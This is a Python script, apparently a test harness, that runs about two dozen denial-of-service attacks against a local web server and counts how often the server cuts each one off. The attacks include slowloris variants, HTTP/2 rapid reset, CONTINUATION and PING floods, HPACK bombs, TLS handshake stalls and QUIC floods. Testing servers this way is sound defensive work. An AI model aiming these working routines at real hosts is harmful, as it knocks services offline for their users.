"""What a hostile afternoon is made of. Each attack is a process of its own, at a pace that leaves the machine to the
one that is attacked; it ends with the time it is given, and prints how it went as JSON.

    python hostile.py ATTACK PORT HTTPS_PORT SECONDS

An attack counts in `done` how often it struck, and in `cut` how often it was cut off for it.
"""

import errno
import json
import os
import random
import resource
import select
import socket
import ssl
import struct
import subprocess
import sys
import time

from http2 import (CONTINUATION, DATA, END_HEADERS, END_STREAM, FRAME_MAX, GET_ROOT, HEADERS, PREFACE, PRIORITY,
                   frame, reset, settings, window_update)
from http2 import PING as PING_FRAME

IDLE_CONNECTIONS = 10_000
HEAD = b"GET / HTTP/1.1\r\nHost: shop.test\r\n"
HELLO = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"


class Afternoon:
    """The ports, the time that is left, and what has happened."""

    def __init__(self, port, https, seconds):
        self.port, self.https, self.until = port, https, time.monotonic() + seconds
        self.counts = {"done": 0, "cut": 0}

    def goes_on(self, pause=0.0):
        if pause:
            time.sleep(max(0.0, min(pause, self.until - time.monotonic())))
        return time.monotonic() < self.until

    def count(self, what, by=1):
        self.counts[what] = self.counts.get(what, 0) + by

    def connect(self, port=None, receive_buffer=None):
        """A connection from one of many addresses, so that none runs out of ports."""
        connection = socket.socket()
        connection.settimeout(5)
        if receive_buffer:
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
        connection.bind((f"127.0.{random.randrange(1, 50)}.{random.randrange(1, 250)}", 0))
        connection.connect(("127.0.0.1", port or self.port))
        return connection

    def crowd(self, size, strike, begin, pause):
        """`size` connections at a time, each struck in turn; one that is cut off makes room for a new one."""
        crowd = []
        while self.goes_on(pause):
            while len(crowd) < size:
                try:
                    connection = self.connect()
                    connection.setblocking(False)
                    crowd.append([connection, begin(connection)])
                except OSError:
                    self.count("refused")
                    break
            for one in list(crowd):
                try:
                    strike(*one)
                    self.count("done")
                    if one[0].recv(65_536) == b"":
                        raise ConnectionResetError
                except BlockingIOError:
                    pass
                except OSError:
                    self.count("cut")
                    one[0].close()
                    crowd.remove(one)

    def flood(self, burst, pause=0.05, greeting=settings()):
        """HTTP/2 connections, one after the other: bursts until the other side ends it."""
        while self.goes_on(pause):
            try:
                with self.connect() as connection:
                    connection.sendall(PREFACE + greeting)
                    number = 0
                    while self.goes_on(pause):
                        connection.sendall(burst(number))
                        number += 1
                        self.count("done")
                        self.drain(connection)
            except OSError:
                self.count("cut")

    def drain(self, connection):
        while select.select([connection], [], [], 0)[0]:
            if not connection.recv(65_536):
                raise ConnectionResetError


# --- slow ones ---

def slow_heads(afternoon):
    """A head that never ends, a byte at a time."""
    afternoon.crowd(100, lambda connection, _: connection.send(b"X"), lambda connection: connection.send(HEAD), 0.5)


def slow_heads_of_http2(afternoon):
    """A block of headers that never ends, a byte at a time."""
    def begin(connection):
        connection.send(PREFACE + settings() + frame(HEADERS, END_STREAM, 1, GET_ROOT))
    afternoon.crowd(100, lambda connection, _: connection.send(b"\0"), begin, 0.5)


def slow_bodies(afternoon):
    """A body that is announced and comes a byte in three seconds, or not at all."""
    def begin(connection):
        connection.send(b"POST / HTTP/1.1\r\nHost: shop.test\r\nContent-Length: 100000\r\n\r\n")
    afternoon.crowd(100, lambda connection, _: None, begin, 0.5)


def slow_bodies_of_http2(afternoon):
    def begin(connection):
        connection.send(PREFACE + settings() + frame(HEADERS, END_HEADERS, 1, GET_ROOT[:1].replace(b"\x82", b"\x83")
                                                     + GET_ROOT[1:]))
    afternoon.crowd(100, lambda connection, _: None, begin, 0.5)


def slow_readers(afternoon):
    """Large answers that nobody reads."""
    readers = []
    while afternoon.goes_on(0.2):
        if len(readers) < 60:
            try:
                readers.append(afternoon.connect(receive_buffer=4096))
                readers[-1].sendall(b"GET /big HTTP/1.1\r\nHost: shop.test\r\n\r\n")
                afternoon.count("done")
            except OSError:
                afternoon.count("cut")


def zero_windows(afternoon):
    """Large answers in many streams, and never a window to send them into."""
    kept = []
    while afternoon.goes_on(0.2):
        if len(kept) < 20:
            try:
                kept.append(afternoon.connect())
                block = GET_ROOT.replace(b"\x84", b"\x04\x04/big")
                kept[-1].sendall(PREFACE + settings(INITIAL_WINDOW_SIZE=0) + b"".join(
                    frame(HEADERS, END_HEADERS | END_STREAM, stream, block) for stream in range(1, 41, 2)))
                afternoon.count("done")
            except OSError:
                afternoon.count("cut")


def idle_connections(afternoon):
    """Ten thousand connections that say nothing at all, or have said something once."""
    kept, wanted = [], IDLE_CONNECTIONS
    while afternoon.goes_on():
        if len(kept) == wanted:
            time.sleep(0.2)
            continue
        try:
            kept.append(afternoon.connect())
            if len(kept) % 10 == 0:
                kept[-1].sendall(HEAD + b"\r\n")
            elif len(kept) % 10 == 1:
                kept[-1].sendall(PREFACE + settings())
        except OSError as error:
            afternoon.count(errno.errorcode.get(error.errno, "timeout"))
        afternoon.counts["done"] = len(kept)
        if len(kept) % 50 == 0:
            time.sleep(0.01)


# --- HTTP/2 ---

def rapid_reset(afternoon):
    """CVE-2023-44487: requests that are cancelled as soon as they are made."""
    def burst(number):
        return b"".join(frame(HEADERS, END_HEADERS | END_STREAM, stream, GET_ROOT) + reset(stream)
                        for stream in range(number * 100 + 1, number * 100 + 101, 2))
    afternoon.flood(burst)


def resets_provoked(afternoon):
    """CVE-2025-8671: the server itself is made to reset streams that it has begun to work for."""
    def burst(number):
        return b"".join(frame(HEADERS, END_HEADERS, stream, GET_ROOT) + window_update(stream, 0)
                        for stream in range(number * 100 + 1, number * 100 + 101, 2))
    afternoon.flood(burst)


def continuation_flood(afternoon):
    """CVE-2024-27316: a block of headers without an end."""
    afternoon.flood(lambda number: (b"" if number else frame(HEADERS, END_STREAM, 1, GET_ROOT))
                    + frame(CONTINUATION, 0, 1, b"\x00\x01x\x7f\x81\x7e" + b"y" * 16_000))


def empty_continuation_flood(afternoon):
    afternoon.flood(lambda number: (b"" if number else frame(HEADERS, END_STREAM, 1, GET_ROOT))
                    + frame(CONTINUATION, 0, 1) * 100)


def settings_flood(afternoon):
    """CVE-2019-9515: each wants an acknowledgement."""
    afternoon.flood(lambda _: settings() * 500)


def ping_flood(afternoon):
    """CVE-2019-9512."""
    afternoon.flood(lambda _: frame(PING_FRAME, payload=bytes(8)) * 500)


def empty_data_flood(afternoon):
    """CVE-2019-9518."""
    post = GET_ROOT.replace(b"\x82", b"\x83")
    afternoon.flood(lambda number: (b"" if number else frame(HEADERS, END_HEADERS, 1, post)) + frame(DATA, 0, 1) * 500)


def priority_flood(afternoon):
    """CVE-2019-9513."""
    afternoon.flood(lambda number: b"".join(frame(PRIORITY, 0, stream, struct.pack(">IB", 0, number % 256))
                                            for stream in range(1, 1001, 2)))


def unread_pings(afternoon):
    """PINGs whose acknowledgements nobody reads: they must not pile up."""
    kept = []
    while afternoon.goes_on(0.1):
        try:
            if len(kept) < 20:
                kept.append(afternoon.connect(receive_buffer=4096))
                kept[-1].sendall(PREFACE + settings())
                kept[-1].setblocking(False)
            for connection in kept:
                try:
                    connection.send(frame(PING_FRAME, payload=bytes(8)) * 100)
                    afternoon.count("done")
                except BlockingIOError:
                    pass
        except OSError:
            afternoon.count("cut")
            kept = [one for one in kept if alive(one)]


def alive(connection):
    try:
        connection.send(b"")
        return connection.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0
    except OSError:
        return False


def hpack_bombs(afternoon):
    """A header of 4 KB in the table, and a byte for each of sixteen thousand copies of it."""
    entry = b"\x40\x01x\x7f" + hpack_number(4000 - 127) + b"y" * 4000

    def burst(number):
        if number == 0:
            return frame(HEADERS, END_HEADERS | END_STREAM, 1, GET_ROOT + entry)
        return frame(HEADERS, END_HEADERS | END_STREAM, 2 * number + 1, GET_ROOT + b"\xbe" * (FRAME_MAX - 20))
    afternoon.flood(burst, 0.1)


def hpack_number(rest):
    data = b""
    while rest >= 128:
        data += bytes([rest % 128 | 128])
        rest //= 128
    return data + bytes([rest])


def header_bombs(afternoon):
    """Heads of a megabyte, and of a hundred thousand lines."""
    large = HEAD + b"X-Large: " + b"x" * (1 << 20) + b"\r\n\r\n"
    many = HEAD + b"X: 1\r\n" * 100_000 + b"\r\n"
    while afternoon.goes_on(0.2):
        for head in (large, many):
            try:
                with afternoon.connect() as connection:
                    afternoon.count("done")
                    connection.sendall(head)
                    if b" 431 " in connection.recv(1000):
                        afternoon.count("cut")
            except OSError:
                afternoon.count("cut")


# --- TLS, and nonsense ---

def tls_stalls(afternoon):
    """Handshakes that begin and go no further."""
    kept = []
    while afternoon.goes_on(0.05):
        if len(kept) < 300:
            try:
                kept.append(afternoon.connect(afternoon.https))
                kept[-1].sendall(HELLO[:len(kept) % len(HELLO)] + (b"" if len(kept) % 2 else bytes(100)))
                afternoon.count("done")
            except OSError:
                afternoon.count("cut")
        else:
            for connection in kept:
                if select.select([connection], [], [], 0)[0]:
                    afternoon.count("cut")
                connection.close()
            kept = []


def handshakes_given_up(afternoon):
    """The server signs, and nobody is there any more."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    while afternoon.goes_on(0.02):
        incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
        tls = context.wrap_bio(incoming, outgoing, server_hostname="shop.test")
        try:
            tls.do_handshake()
        except ssl.SSLWantReadError:
            pass
        try:
            with afternoon.connect(afternoon.https) as connection:
                connection.sendall(outgoing.read())
                connection.recv(100)
                afternoon.count("done")
        except OSError:
            afternoon.count("cut")


def renegotiation(afternoon):
    """CVE-2011-1473: the client asks for handshakes within a connection. TLS 1.3 has none."""
    while afternoon.goes_on(0.5):
        done = subprocess.run(["openssl", "s_client", "-connect", f"127.0.0.1:{afternoon.https}", "-tls1_2",
                               "-servername", "shop.test"], input=b"R\n", capture_output=True, timeout=10, check=False)
        afternoon.count("done")
        text = done.stdout + done.stderr
        if b"RENEGOTIATING" in text and (b"no renegotiation" in text or done.returncode):
            afternoon.count("cut")


def garbage(afternoon):
    while afternoon.goes_on(0.02):
        try:
            with afternoon.connect(random.choice([afternoon.port, afternoon.https])) as connection:
                connection.sendall(random.randbytes(random.randrange(1, 3000)))
                afternoon.count("done")
                connection.settimeout(0.01)
                connection.recv(1000)
        except OSError:
            afternoon.count("cut")


def quic_openings(afternoon):
    """First packets of QUIC from everywhere: of version 1 and of none, padded as RFC 9000 §14.1 wants it, with nothing
    that can be decrypted in them."""
    while afternoon.goes_on(0.02):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
            sender.bind((f"127.0.{random.randrange(1, 50)}.{random.randrange(1, 250)}", 0))
            for version in (1, 1, 1, 0, 0xff00_001d, 0x0a0a_0a0a):
                head = struct.pack(">BIB8sB", 0xc3, version, 8, random.randbytes(8), 0) + b"\x00\x44\x9e"
                sender.sendto(head + random.randbytes(1200 - len(head)), ("127.0.0.1", afternoon.https))
                afternoon.count("done")


def connections_come_and_go(afternoon):
    """Connections that are reset as soon as they are accepted."""
    while afternoon.goes_on(0.005):
        try:
            with afternoon.connect() as connection:
                connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
                afternoon.count("done")
        except OSError:
            afternoon.count("cut")


ATTACKS = {attack.__name__: attack for attack in (
    slow_heads, slow_heads_of_http2, slow_bodies, slow_bodies_of_http2, slow_readers, zero_windows, idle_connections,
    rapid_reset, resets_provoked, continuation_flood, empty_continuation_flood, settings_flood, ping_flood,
    empty_data_flood, priority_flood, unread_pings, hpack_bombs, header_bombs, tls_stalls, handshakes_given_up,
    renegotiation, garbage, quic_openings, connections_come_and_go)}


def main(attack, port, https, seconds):
    os.nice(10)
    resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
    afternoon = Afternoon(int(port), int(https), float(seconds))
    ATTACKS[attack](afternoon)
    print(json.dumps(afternoon.counts))


if __name__ == "__main__":
    main(*sys.argv[1:])
